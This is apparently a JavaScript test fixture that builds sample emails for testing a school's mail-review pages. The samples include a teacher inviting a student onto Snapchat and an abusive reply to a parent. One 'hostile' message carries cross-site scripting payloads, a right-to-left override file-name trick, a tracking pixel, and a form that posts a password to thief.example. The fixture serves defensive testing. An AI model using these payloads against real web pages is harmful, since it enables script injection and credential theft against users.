// Mail as people at Kingsmead write it, for the tests of the pages: built by letter(), and some
// that the school's own rules hold.

const encoded = (words) =>
    /^[ -~]*$/.test(words) ? words : `=?utf-8?B?${Buffer.from(words).toString('base64')}?=`;

const lines = (base64) => base64.replace(/.{76}/g, '$&\n');

function part(type, content, ...headers) {
    const body = lines(Buffer.from(content).toString('base64'));
    return [`Content-Type: ${type}`, 'Content-Transfer-Encoding: base64', ...headers, '', body, '']
        .join('\n');
}

function multipart(kind, parts) {
    const boundary = `next-${kind}`;
    return [`Content-Type: multipart/${kind}; boundary="${boundary}"`, '',
        ...parts.map((one) => `--${boundary}\n${one}`), `--${boundary}--`, ''].join('\n');
}

// A message. `name` must be another for each: by it the message is found again. `attachments` are
// objects with `name`, `type` and `content`; with `html` it has both forms.
export function letter({ name, from = 'd.price@kingsmead.example', to = ['s.brown@home.example'],
    subject = 'A letter', body = '', html, attachments = [] }) {
    const words = [part('text/plain; charset=utf-8', body)];
    if (html)
        words.push(part('text/html; charset=utf-8', html));
    let content = words.length > 1 ? multipart('alternative', words) : words[0];
    if (attachments.length > 0)
        content = multipart('mixed', [content, ...attachments.map((file) => part(file.type,
            file.content, `Content-Disposition: attachment; filename="${file.name}"`))]);
    const text = [`From: ${from}`, `To: ${to.join(', ')}`, `Subject: ${encoded(subject)}`,
        `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
        `Message-Id: <${name}@mail.kingsmead.example>`, 'MIME-Version: 1.0', content].join('\n');
    return { name, from, to, text };
}

export const ELLIE = 'ellie.ward@post.example';
export const ADD_ME = "Add me on Snapchat, I'm coachdanprice, and I'll send the photos there.";

// Critical (1.2), to a student's own address.
export const snapchat = () => letter({ name: 'snapchat', to: [ELLIE],
    subject: 'Photos of the match', body: `Well played, Ellie.\n\n${ADD_ME}\n` });

// The same, held for the student while a colleague has got the message.
export const forSome = () => letter({ name: 'for-some', to: [ELLIE, 'a.khan@kingsmead.example'],
    subject: 'Photos', body: `${ADD_ME}\n` });

// High (2.3), to a family.
export const insult = () => letter({ name: 'insult', from: 'm.lloyd@kingsmead.example',
    to: ['j.ward@home.example'], subject: 'Re: Your complaint',
    body: 'Shut up and listen. You are a useless mother.\n' });

// Written by one of the reviewers.
export const byDeputy = () => letter({ name: 'by-deputy', from: 'r.clarke@kingsmead.example',
    to: [ELLIE], subject: 'Newsletter', body: `${ADD_ME}\n` });

// It tries what a message can to act in the page that shows it.
export const hostile = () => letter({ name: 'hostile', to: [ELLIE],
    subject: '<img src=x onerror=alert(1)> "quoted" & \u202Egnp.exe',
    body: `${ADD_ME}\n</textarea></pre><script>alert(2)</script>` +
        '<a href="javascript:alert(3)">x</a>\n',
    html: `<p>${ADD_ME}</p><script>alert(4)</script><img src="http://tracker.example/seen.png">` +
        '<form action="http://thief.example/"><input name="password"></form>' +
        '<style>body { display: none }</style>',
    attachments: [{ name: '<b>notes.txt', type: 'text/plain; charset=utf-8', content: ADD_ME }] });

export const heldMail = [snapchat, forSome, insult, byDeputy, hostile];
